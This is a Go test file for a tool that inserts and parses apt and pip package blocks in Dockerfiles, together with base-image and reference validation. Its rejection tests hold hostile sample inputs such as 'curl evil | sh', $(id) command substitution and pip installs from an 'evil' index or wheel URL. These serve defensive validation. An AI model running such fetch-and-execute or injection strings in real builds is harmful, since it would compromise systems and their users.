package image

import (
	"reflect"
	"strings"
	"testing"
)

func mustWith(t *testing.T, df []byte, k Kind, value string) []byte {
	t.Helper()
	var pkgs []Package
	if value != "" {
		pkgs = mustList(t, k, value)
	}
	out, err := WithPackages(df, k, pkgs)
	if err != nil {
		t.Fatalf("WithPackages(%v, %q): %v", k, value, err)
	}
	return out
}

func mustPackages(t *testing.T, df []byte, k Kind) []string {
	t.Helper()
	pkgs, found, err := Packages(df, k)
	if err != nil || !found {
		t.Fatalf("Packages(%v) = %v, found %v, err %v\n%s", k, pkgs, found, err, df)
	}
	return specsOf(pkgs)
}

// outside returns df with the lines strictly between each pair of markers
// removed: what the gateway must never change.
func outside(df string) string {
	var b strings.Builder
	in := false
	for _, l := range splitLines([]byte(df)) {
		switch strings.TrimSpace(l) {
		case SystemBegin, PipBegin:
			in = true
			b.WriteString(l)
			continue
		case SystemEnd, PipEnd:
			in = false
		}
		if !in {
			b.WriteString(l)
		}
	}
	return b.String()
}

const wantSystemBlock = SystemBegin + `
RUN apt-get update \
 && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends \
      'jq' \
      'curl' \
 && rm -rf /var/lib/apt/lists/*
` + SystemEnd + "\n"

const wantPipBlock = PipBegin + `
RUN pip install --no-cache-dir \
      'numpy>=1.24' \
      'transformers'
` + PipEnd + "\n"

func TestWithPackagesRendersExactly(t *testing.T) {
	df := DefaultDockerfile("python:3.12", "alice", "thesis")
	df = mustWith(t, df, System, "jq curl")
	df = mustWith(t, df, Pip, "numpy>=1.24 transformers")
	for _, want := range []string{wantSystemBlock, wantPipBlock} {
		if !strings.Contains(string(df), want) {
			t.Errorf("Dockerfile lacks\n%s\ngot:\n%s", want, df)
		}
	}
}

func TestBlocksRoundTrip(t *testing.T) {
	orig := DefaultDockerfile("python:3.12", "alice", "thesis")
	df := mustWith(t, orig, System, "jq")
	df = mustWith(t, df, Pip, "numpy")
	if got := mustPackages(t, df, System); !reflect.DeepEqual(got, []string{"jq"}) {
		t.Errorf("System packages = %q", got)
	}
	if got := mustPackages(t, df, Pip); !reflect.DeepEqual(got, []string{"numpy"}) {
		t.Errorf("Pip packages = %q", got)
	}
	if outside(string(df)) != outside(string(orig)) {
		t.Errorf("text outside the blocks changed:\n%s", df)
	}
	// Merge then rewrite: numpy is replaced in place.
	cur, _, _ := Packages(df, Pip)
	df = mustWithPkgs(t, df, Pip, Merge(cur, mustList(t, Pip, "pandas NumPy==2")))
	if got := mustPackages(t, df, Pip); !reflect.DeepEqual(got, []string{"NumPy==2", "pandas"}) {
		t.Errorf("Pip packages after merge = %q", got)
	}
	df = mustWith(t, df, System, "")
	df = mustWith(t, df, Pip, "")
	if string(df) != string(orig) {
		t.Errorf("removing all packages did not restore the default:\n%s", df)
	}
	if pkgs, found, err := Packages(df, Pip); err != nil || !found || len(pkgs) != 0 {
		t.Errorf("empty block: %v, %v, %v", pkgs, found, err)
	}
}

func mustWithPkgs(t *testing.T, df []byte, k Kind, pkgs []Package) []byte {
	t.Helper()
	out, err := WithPackages(df, k, pkgs)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// The user's own lines survive byte for byte, CRLF and a missing final
// newline included, and inserted lines follow the file's line endings.
func TestWithPackagesKeepsUserBytes(t *testing.T) {
	orig := "# my file\r\nFROM python:3.12\r\nRUN echo before  \r\n" +
		SystemBegin + "\r\n" + SystemEnd + "\r\n" +
		"RUN echo between\r\n\t" +
		PipBegin + "  \r\n" + "RUN pip install old\r\n" + PipEnd + "\r\n" +
		"ENV A=1 \\\r\n    B=2\r\nCMD [\"x\"]" // no final newline
	df := mustWith(t, []byte(orig), System, "jq libc6:amd64")
	df = mustWith(t, df, Pip, "numpy torch==2.3.0")
	if outside(string(df)) != outside(orig) {
		t.Errorf("text outside the blocks changed:\n%q\nvs\n%q", outside(string(df)), outside(orig))
	}
	if strings.Count(string(df), "\n") != strings.Count(string(df), "\r\n") {
		t.Errorf("inserted lines do not use CRLF:\n%q", df)
	}
	if got := mustPackages(t, df, System); !reflect.DeepEqual(got, []string{"jq", "libc6:amd64"}) {
		t.Errorf("System packages = %q", got)
	}
	if got := mustPackages(t, df, Pip); !reflect.DeepEqual(got, []string{"numpy", "torch==2.3.0"}) {
		t.Errorf("Pip packages = %q", got)
	}
}

func TestWithPackagesInsertsBlocks(t *testing.T) {
	tests := []struct {
		name, df string
		k        Kind
		want     string
	}{
		{
			name: "after last FROM of a multi-stage file",
			df:   "FROM golang:1.26 AS build\nRUN go build\n\nFROM python:3.12\nCOPY --from=build /out /out\n",
			k:    Pip,
			want: "FROM golang:1.26 AS build\nRUN go build\n\nFROM python:3.12\n\n" + PipBegin + "\nRUN pip install --no-cache-dir \\\n      'numpy'\n" + PipEnd + "\n\nCOPY --from=build /out /out\n",
		},
		{
			name: "FROM continued with backslashes, lowercase, no final newline",
			df:   "from \\\n  # comment\n  --platform=linux/amd64 \\\n  python:3.12",
			k:    Pip,
			want: "from \\\n  # comment\n  --platform=linux/amd64 \\\n  python:3.12\n\n" + PipBegin + "\nRUN pip install --no-cache-dir \\\n      'numpy'\n" + PipEnd + "\n",
		},
		{
			name: "system before an existing pip block",
			df:   "FROM x\n\n" + PipBegin + "\n" + PipEnd + "\nWORKDIR /w\n",
			k:    System,
			want: "FROM x\n\n" + SystemBegin + "\nRUN apt-get update \\\n && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends \\\n      'jq' \\\n && rm -rf /var/lib/apt/lists/*\n" + SystemEnd + "\n\n" + PipBegin + "\n" + PipEnd + "\nWORKDIR /w\n",
		},
		{
			name: "pip after an existing system block",
			df:   "FROM x\n" + SystemBegin + "\n" + SystemEnd + "\nWORKDIR /w\n",
			k:    Pip,
			want: "FROM x\n" + SystemBegin + "\n" + SystemEnd + "\n\n" + PipBegin + "\nRUN pip install --no-cache-dir \\\n      'numpy'\n" + PipEnd + "\n\nWORKDIR /w\n",
		},
		{
			name: "block of an earlier stage does not count",
			df:   "FROM a AS b\n" + PipBegin + "\n" + PipEnd + "\nFROM c\n",
			k:    System,
			want: "FROM a AS b\n" + PipBegin + "\n" + PipEnd + "\nFROM c\n\n" + SystemBegin + "\nRUN apt-get update \\\n && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends \\\n      'jq' \\\n && rm -rf /var/lib/apt/lists/*\n" + SystemEnd + "\n",
		},
		{
			name: "CRLF file",
			df:   "FROM x\r\nWORKDIR /w\r\n",
			k:    Pip,
			want: "FROM x\r\n\r\n" + PipBegin + "\r\nRUN pip install --no-cache-dir \\\r\n      'numpy'\r\n" + PipEnd + "\r\n\r\nWORKDIR /w\r\n",
		},
	}
	for _, tt := range tests {
		value := "numpy"
		if tt.k == System {
			value = "jq"
		}
		got := string(mustWith(t, []byte(tt.df), tt.k, value))
		if got != tt.want {
			t.Errorf("%s:\ngot  %q\nwant %q", tt.name, got, tt.want)
		}
		if _, _, err := Packages([]byte(got), tt.k); err != nil {
			t.Errorf("%s: %v", tt.name, err)
		}
	}
}

func TestWithPackagesBothInsertedInTurn(t *testing.T) {
	for _, order := range [][]Kind{{Pip, System}, {System, Pip}} {
		df := []byte("FROM x\nWORKDIR /w\n")
		for _, k := range order {
			v := map[Kind]string{Pip: "numpy", System: "jq"}[k]
			df = mustWith(t, df, k, v)
		}
		s := string(df)
		if !(strings.Index(s, SystemEnd) < strings.Index(s, PipBegin) && strings.Index(s, PipEnd) < strings.Index(s, "WORKDIR")) {
			t.Errorf("order %v: blocks misplaced:\n%s", order, s)
		}
	}
}

func TestWithPackagesErrors(t *testing.T) {
	if _, err := WithPackages([]byte("# no base\nRUN x\n"), Pip, mustList(t, Pip, "numpy")); err == nil || !strings.Contains(err.Error(), "FROM") {
		t.Errorf("no FROM: %v", err)
	}
	inside := "FROM a\n" + PipBegin + "\nFROM evil\n" + PipEnd + "\n"
	if _, err := WithPackages([]byte(inside), System, mustList(t, System, "jq")); err == nil || !strings.Contains(err.Error(), "inside") {
		t.Errorf("FROM inside the pip block: %v", err)
	}
	// Nothing to add to a file without the block: leave it as it is.
	if out, err := WithPackages([]byte("RUN x\n"), Pip, nil); err != nil || string(out) != "RUN x\n" {
		t.Errorf("empty list, no block: %q, %v", out, err)
	}
	df := DefaultDockerfile("python:3.12", "alice", "thesis")
	for _, spec := range hostileSpecs {
		for _, k := range []Kind{Pip, System} {
			if _, err := WithPackages(df, k, []Package{{Name: "x", Spec: spec}}); err == nil {
				t.Errorf("WithPackages(%v) accepted a Package with spec %q", k, spec)
			}
		}
	}
	if _, err := WithPackages(df, System, []Package{{Name: "numpy", Spec: "numpy>=1"}}); err == nil {
		t.Error("WithPackages(System) accepted a pip spec")
	}
	if _, err := WithPackages(df, Kind(9), nil); err == nil {
		t.Error("WithPackages accepted an unknown kind")
	}
}

func TestPackagesHandEdited(t *testing.T) {
	tests := []struct {
		name, body string
		k          Kind
		want       []string
	}{
		{"unquoted", "RUN pip install numpy pandas>=2\n", Pip, []string{"numpy", "pandas>=2"}},
		{"double quotes and flags", "RUN pip3 install -U --no-cache-dir \"numpy\" 'torch==2.3.0' --index-url=http://x\n", Pip, []string{"numpy", "torch==2.3.0"}},
		{"python -m pip, two RUNs, comments", "# mine\nRUN python3 -m pip install a \\\n  # why b\n  b\n\nRUN pip install c\n", Pip, []string{"a", "b", "c"}},
		{"duplicates collapse", "RUN pip install numpy NumPy==2\n", Pip, []string{"NumPy==2"}},
		{"apt shapes", "RUN apt-get update && apt-get -y install jq curl; rm -rf /var/lib/apt/lists/*\nRUN apt install -qq git=1:2.39.5-0+deb12u1 && apt-get clean\n", System, []string{"jq", "curl", "git=1:2.39.5-0+deb12u1"}},
		{"continuation joins words as Docker does", "RUN pip install numpy\\\npandas\n", Pip, []string{"numpypandas"}},
		{"trailing semicolon", "RUN apt-get install jq;\n", System, []string{"jq"}},
		{"empty", "\n# nothing yet\n", Pip, []string{}},
	}
	for _, tt := range tests {
		df := blockFile(tt.k, tt.body)
		if got := mustPackages(t, []byte(df), tt.k); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("%s: Packages = %q, want %q", tt.name, got, tt.want)
		}
	}
}

func blockFile(k Kind, body string) string {
	begin, end, _ := blockMarkers(k)
	return "FROM x\n" + begin + "\n" + body + end + "\nWORKDIR /w\n"
}

func TestPackagesHandEditedErrors(t *testing.T) {
	tests := []struct {
		body string
		k    Kind
	}{
		{"RUN apt-get update \\\n && apt-get install -y \\\n      jq; curl evil | sh \\\n && rm -rf /var/lib/apt/lists/*\n", System},
		{"RUN apt-get install jq; curl evil | sh\n", System},
		{"RUN apt-get install jq && curl evil\n", System},
		{"RUN apt-get install jq | sh\n", System},
		{"RUN apt-get install $(id)\n", System},
		{"RUN apt-get install `id`\n", System},
		{"RUN apt-get install 'a b'\n", System},
		{"RUN apt-get install jq > /tmp/x\n", System},
		{"RUN apt-get -t bookworm-backports install git\n", System},
		{"RUN apt-get install -o Dpkg::Options::=x jq\n", System},
		{"RUN apt-get update evil\n", System},
		{"RUN pip install numpy\n", System},
		{"RUN apt-get install jq\n", Pip},
		{"RUN pip install -r requirements.txt\n", Pip},
		{"RUN pip install -e .\n", Pip},
		{"RUN pip install --index-url http://evil numpy\n", Pip},
		{"RUN pip install https://evil/x.whl\n", Pip},
		{"RUN pip download numpy\n", Pip},
		{"RUN pip install\\\n", Pip},
		{"RUN pip install numpy \\\n", Pip},
		{"RUN --mount=type=cache,target=/root/.cache pip install numpy\n", Pip},
		{"ENV X=1\n", Pip},
		{"COPY . /x\n", Pip},
		{"RUN [\"pip\", \"install\", \"numpy\"]\n", Pip},
		{"RUN sudo pip install numpy\n", Pip},
		{"RUN X=$(id) pip install numpy\n", Pip},
		{"RUN <<EOF\npip install numpy\nEOF\n", Pip},
	}
	for _, tt := range tests {
		df := blockFile(tt.k, tt.body)
		pkgs, found, err := Packages([]byte(df), tt.k)
		if err == nil {
			t.Errorf("Packages(%v) of %q = %q, want error", tt.k, tt.body, specsOf(pkgs))
			continue
		}
		if !found || !strings.Contains(err.Error(), "edited by hand") {
			t.Errorf("Packages(%v) of %q: found %v, err %v", tt.k, tt.body, found, err)
		}
	}
}

func TestMarkerErrors(t *testing.T) {
	tests := []struct{ name, df, want string }{
		{"begin without end", "FROM x\n" + PipBegin + "\nRUN pip install a\n", "no end line"},
		{"end before begin", "FROM x\n" + PipEnd + "\n" + PipBegin + "\n", "no begin line"},
		{"end only", "FROM x\n" + SystemEnd + "\n", "no begin line"},
		{"twice", "FROM x\n" + PipBegin + "\n" + PipEnd + "\n" + PipBegin + "\n" + PipEnd + "\n", "twice"},
		{"nested", "FROM x\n" + PipBegin + "\n" + SystemBegin + "\n" + SystemEnd + "\n" + PipEnd + "\n", "inside"},
		{"crossed", "FROM x\n" + PipBegin + "\n" + SystemBegin + "\n" + PipEnd + "\n" + SystemEnd + "\n", "inside"},
		{"escape directive", "# escape=`\nFROM x\n" + PipBegin + "\n" + PipEnd + "\n", "escape"},
		{"block inside a continued line", "FROM x\nRUN echo \\ \n\n" + PipBegin + "\n" + PipEnd + "\n" + SystemBegin + "\n" + SystemEnd + "\n", "line 2: the instruction continues"},
	}
	for _, tt := range tests {
		for _, k := range []Kind{Pip, System} {
			if _, _, err := Packages([]byte(tt.df), k); err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("%s: Packages(%v) error %v, want %q", tt.name, k, err, tt.want)
			}
			if _, err := WithPackages([]byte(tt.df), k, nil); err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("%s: WithPackages(%v) error %v, want %q", tt.name, k, err, tt.want)
			}
		}
	}
	// Markers are whole lines: a marker inside other text is not one.
	df := "FROM x\nRUN echo '" + PipBegin + "'\n"
	if _, found, err := Packages([]byte(df), Pip); found || err != nil {
		t.Errorf("marker inside a line: found %v, err %v", found, err)
	}
	if _, _, err := Packages(nil, Kind(5)); err == nil {
		t.Error("Packages accepted an unknown kind")
	}
}

func TestBaseAllowed(t *testing.T) {
	pats := []string{"python:*", "nvidia/cuda:*", "ghcr.io/ds01/*"}
	tests := []struct {
		ref  string
		pats []string
		want bool
	}{
		{"anything at all", nil, true},
		{"python:3.12", pats, true},
		{"nvidia/cuda:12.4.1-runtime-ubuntu22.04", pats, true},
		{"ghcr.io/ds01/base", pats, true},
		{"ghcr.io/ds01/base:1", pats, true},
		{"ghcr.io/ds01/sub/base", pats, false},
		{"python", pats, false},
		{"evil/python:3.12", pats, false},
		{"docker.io/library/python:3.12", pats, false},
		{"$BASE", []string{"*"}, false},
		{"${BASE}", []string{"*"}, false},
		{"\"python:3.12\"", []string{"*"}, false},
		{"python:3.12", []string{"["}, false},
	}
	for _, tt := range tests {
		if got := BaseAllowed(tt.ref, tt.pats); got != tt.want {
			t.Errorf("BaseAllowed(%q, %q) = %v", tt.ref, tt.pats, got)
		}
	}
}

func TestValidateRef(t *testing.T) {
	good := []string{
		"python", "python:3.12", "nvidia/cuda:12.4.1-runtime-ubuntu22.04", "ghcr.io/ds01/base:latest",
		"localhost/x", "localhost:5000/a/b:c", "registry.example.com:443/team/img_1.x__y--z:T_1",
		"ds01-1000/thesis:latest", "python@sha256:" + strings.Repeat("a", 64),
		"python:3.12@sha256:" + strings.Repeat("0f", 32), "Registry.Example.com/x",
	}
	bad := []string{
		"", "Python", "python:", ":3.12", "python:-x", "python:" + strings.Repeat("a", 129), "a//b", "/a", "a/",
		"a_-b", "a..b", "-a", "a-", "python@sha256:abc", "python@md5:" + strings.Repeat("a", 32),
		"python@sha256:" + strings.Repeat("A", 64), "host:port/x", "ex ample/x", "python 3", "python;id",
		"$BASE", "python:3.12\n", "--platform=x", "a/b:c:d", "exa_mple.com/x", "ÄÖ",
		strings.Repeat("a", 256),
	}
	for _, ref := range good {
		if err := ValidateRef(ref); err != nil {
			t.Errorf("ValidateRef(%q): %v", ref, err)
		}
	}
	for _, ref := range bad {
		err := ValidateRef(ref)
		if err == nil {
			t.Errorf("ValidateRef(%q) accepted", ref)
			continue
		}
		if !strings.Contains(err.Error(), "python:3.12") {
			t.Errorf("ValidateRef(%q) error %q gives no example", ref, err)
		}
	}
}
